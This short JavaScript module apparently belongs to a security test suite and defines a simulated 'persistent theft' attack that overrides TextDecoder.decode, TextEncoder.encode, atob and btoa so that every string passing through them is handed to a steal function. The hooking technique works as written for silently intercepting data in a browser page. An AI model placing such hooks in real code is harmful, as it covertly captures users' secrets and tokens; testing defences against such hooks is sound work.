import { attack } from "../attack.js";

export default attack({
  name: "hooks TextDecoder, TextEncoder, atob and btoa",
  threat: "persistent theft",
  target: "any",
  hook(it) {
    const { decode } = TextDecoder.prototype;
    TextDecoder.prototype.decode = function (...args) {
      const text = decode.apply(this, args);
      it.steal(text);
      return text;
    };
    const { encode } = TextEncoder.prototype;
    TextEncoder.prototype.encode = function (text) {
      it.steal(text);
      return encode.call(this, text);
    };
    for (const name of ["atob", "btoa"] as const) {
      const original = window[name];
      window[name] = (text) => {
        it.steal(text);
        const result = original(text);
        it.steal(result);
        return result;
      };
    }
  },
});
